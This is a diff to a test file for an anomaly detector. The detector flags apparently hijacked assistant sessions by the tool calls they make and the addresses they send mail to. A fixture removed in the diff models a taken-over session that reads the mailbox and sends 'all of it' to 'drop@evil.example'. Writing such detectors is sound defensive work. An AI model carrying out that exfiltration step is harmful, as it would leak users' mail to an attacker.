@@ -6,7 +6,7 @@ import numpy as np
 import polars as pl
 import pyarrow as pa
 import pytest
-from office import Call, frame, hijacked, history
+from office import Call, frame, hijacked, history, taken_over
 
 from analytics.anomaly import (
     COLUMNS,
@@ -65,14 +65,10 @@ def test_honest_sessions_cannot_be_told_apart(model: Model) -> None:
 
 def test_a_session_taken_over_is_betrayed_by_where_it_sends(model: Model) -> None:
     """An address that came from no result and that nobody knows is the reason, where known ones are usual."""
-    calls: list[Call] = [
-        ("list_mail", [], ["person1@office.example"]), ("read_mail", [], ["person1@office.example", "text"]),
-        ("find_contact", [], ["person1@office.example"]), ("send_mail", ["drop@evil.example", "all of it"], []),
-    ]  # fmt: skip
-    scored = score(model, frame([("bad", "desk", calls), *history(60, seed=2)]))
-    bad = of(scored, "bad")
+    scored = score(model, frame([taken_over(), *history(60, seed=2)]))
+    bad = of(scored, "taken")
     assert bad["anomaly"] == scored.sessions["anomaly"].max()
-    assert bad["top_event"] == "bad.3"
+    assert bad["top_event"] == "taken.3"
     assert "send_mail on office was given an address that none of the 300 sessions" in str(bad["reason"])
 
 
@@ -176,6 +172,15 @@ def test_a_history_without_fingerprints_can_be_learned() -> None:
         train(frame(without_values(history()))), frame(without_values([hijacked(), *history(50, seed=2)]))
     )
     assert of(scored, "bad")["anomaly"] > 0.9
+
+
+def test_a_history_that_saw_no_values_says_nothing_of_them() -> None:
+    """What was never seen is not new: values are judged only where history had values, addresses where it had those."""
+    blind = score(train(frame(without_values(history()))), frame(history(100, seed=2))).sessions
+    assert blind["basis"].unique().to_list() == ["tools"]
+    assert np.mean(blind["anomaly"].to_numpy() > 0.9) < 0.2
+    unmarked = train(frame(history()).drop("args_addresses"))
+    assert of(score(unmarked, frame([taken_over()])), "taken")["address"] == 0
 
 
 def test_absent_columns_count_as_null_and_needed_ones_are_named(model: Model) -> None:
